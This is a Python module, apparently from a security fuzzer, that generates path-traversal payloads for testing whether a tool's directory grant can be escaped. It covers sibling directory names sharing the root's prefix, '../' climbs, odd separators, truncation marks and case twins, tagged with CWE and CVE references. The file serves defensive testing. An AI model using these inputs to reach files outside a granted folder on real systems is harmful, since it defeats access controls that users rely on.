"""Places beside the grant that a careless comparison takes for places in it."""

from collections.abc import Iterator
from pathlib import PurePosixPath

from capfuzz.attacks.techniques.compose import FOLDER, base, leaf, way
from capfuzz.attacks.techniques.registry import Kind, technique

# A session is asked for the place itself: there a climb would show another fault.
_PATH = ("path",)
_PREFIX = "compares text, so that the root's name also covers longer names (CWE-187)"


@technique(
    "sibling-word",
    kind=Kind.PATH,
    group="boundary",
    cwe="CWE-187",
    needs=_PREFIX,
    refs=("CVE-2025-53110", "CVE-2023-29159"),
)
def sibling_word(root: str, target: str) -> Iterator[str]:
    """Continue the root's name with letters: ``/work`` and ``/workshop``."""
    yield f"{base(root)}shop/{leaf(target)}"


@technique(
    "sibling-dash",
    kind=Kind.PATH,
    group="boundary",
    cwe="CWE-187",
    needs=f"{_PREFIX}; a word boundary in a regular expression does not help here",
    refs=("CVE-2025-53110",),
)
def sibling_dash(root: str, target: str) -> Iterator[str]:
    """Continue the root's name with a dash, where a regular expression sees a word end."""
    yield f"{base(root)}-evil/{leaf(target)}"


@technique(
    "sibling-dot",
    kind=Kind.PATH,
    group="boundary",
    cwe="CWE-187",
    needs=f"{_PREFIX}, or compares names without their extension",
)
def sibling_dot(root: str, target: str) -> Iterator[str]:
    """Continue the root's name with an extension: ``/work.bak``."""
    yield f"{base(root)}.bak/{leaf(target)}"


@technique("sibling-digit", kind=Kind.PATH, group="boundary", cwe="CWE-187", needs=_PREFIX)
def sibling_digit(root: str, target: str) -> Iterator[str]:
    """Continue the root's name with a digit, which sorts just after the slash."""
    yield f"{base(root)}2/{leaf(target)}"


@technique(
    "sibling-file",
    kind=Kind.PATH,
    group="boundary",
    cwe="CWE-187",
    needs=f"{_PREFIX}, and expects folders only",
    refs=("CVE-2023-29159",),
)
def sibling_file(root: str, target: str) -> Iterator[str]:
    """Continue the root's name to that of a file beside it."""
    yield f"{base(root)}_{PurePosixPath(leaf(target)).stem}"


@technique(
    "sibling-odd-separator",
    kind=Kind.PATH,
    group="boundary",
    cwe="CWE-187",
    needs=f"{_PREFIX}, or counts another character than / as its end",
)
def sibling_odd_separator(root: str, target: str) -> Iterator[str]:
    r"""Continue the root's name with ``\``, ``%2f``, a colon, a blank or a full-width slash."""
    for mark in ("\\", "%2f", ":", " ", "\uff0f", "~"):
        yield f"{base(root)}{mark}{leaf(target)}"
    for mark in (" ", ".", "\n"):
        yield f"{base(root)}{mark}/{leaf(target)}"


@technique(
    "sibling-noncanonical",
    kind=Kind.PATH,
    group="boundary",
    cwe="CWE-41",
    needs=f"{_PREFIX}, after the path has been made canonical",
)
def sibling_noncanonical(root: str, target: str) -> Iterator[str]:
    """Write the sibling with ``/./``, doubled slashes and a detour through itself."""
    name = f"{base(root)}shop"
    yield f"/.{name}/{leaf(target)}"
    yield f"/{name}/{leaf(target)}"
    yield f"{name}/.//{leaf(target)}"
    yield f"{name}/../{leaf(name)}/{leaf(target)}"


@technique(
    "climb-to-sibling",
    kind=Kind.PATH,
    surfaces=_PATH,
    group="boundary",
    cwe="CWE-187",
    needs="makes the path canonical and then compares text (CWE-187)",
    refs=("CVE-2025-53110", "CVE-2023-29159"),
)
def climb_to_sibling(root: str, target: str) -> Iterator[str]:
    """Climb out of the root and into a sibling whose name begins like it."""
    name = leaf(root)
    for rest in ("shop/", "-evil/", ".bak/", "2/"):
        yield f"{base(root)}/../{name}{rest}{leaf(target)}"
    yield f"{base(root)}/../{name}_{PurePosixPath(leaf(target)).stem}"
    yield f"{base(root)}/{FOLDER}/../../{name}.bak/{leaf(target)}"


@technique(
    "shortened-root",
    kind=Kind.PATH,
    group="reversed-prefix",
    cwe="CWE-187",
    needs="asks whether the root begins with the path, or compares up to the shorter of the two",
)
def shortened_root(root: str, target: str) -> Iterator[str]:
    """Cut letters off the end of the root's name."""
    name = base(root)
    if not name:
        return
    yield name[:-1]
    yield f"{name[:-1]}/{leaf(target)}"
    yield name[: name.rindex("/") + 2]


@technique(
    "root-inside-path",
    kind=Kind.PATH,
    group="substring",
    cwe="CWE-185",
    needs="searches for the root anywhere in the path, as `in` and an unanchored pattern do",
)
def root_inside_path(root: str, target: str) -> Iterator[str]:
    """Name a place elsewhere whose path has the root's name in the middle, or at its end."""
    yield f"/other{base(root)}/{leaf(target)}"
    yield f"/mirror{base(root)}"
    ups, _ = way(root, "/")
    yield f"/other{base(root)}/{'../' * (ups + 1)}{target.lstrip('/')}"


@technique(
    "outside-with-ending",
    kind=Kind.PATH,
    group="substring",
    cwe="CWE-436",
    needs="judges the ending, or finds the root behind a mark, and opens what stands before it",
)
def outside_with_ending(root: str, target: str) -> Iterator[str]:
    """Put an honest path behind the target and a mark that cuts it off."""
    for mark in ("?", "#", "\n", "\r", "\u2028"):
        yield f"{target}{mark}{base(root)}/data.txt"


@technique(
    "case-twin",
    kind=Kind.PATH,
    group="case",
    cwe="CWE-178",
    needs="folds the case of path or root, on a file system that tells cases apart",
)
def case_twin(root: str, target: str) -> Iterator[str]:
    """Write the root in upper case, with a capital, and with the case of one letter changed."""
    name = base(root)
    if not name:
        return
    for twin in (name.upper(), name[:1] + name[1:].capitalize(), name[:-1] + name[-1].upper()):
        yield f"{twin}/{leaf(target)}"


@technique(
    "case-twin-after-climb",
    kind=Kind.PATH,
    surfaces=_PATH,
    group="case",
    cwe="CWE-178",
    needs="makes the path canonical and then compares without regard to case",
)
def case_twin_after_climb(root: str, target: str) -> Iterator[str]:
    """Climb out of the root and into its case twin."""
    yield f"{base(root)}/../{leaf(root).upper()}/{leaf(target)}"
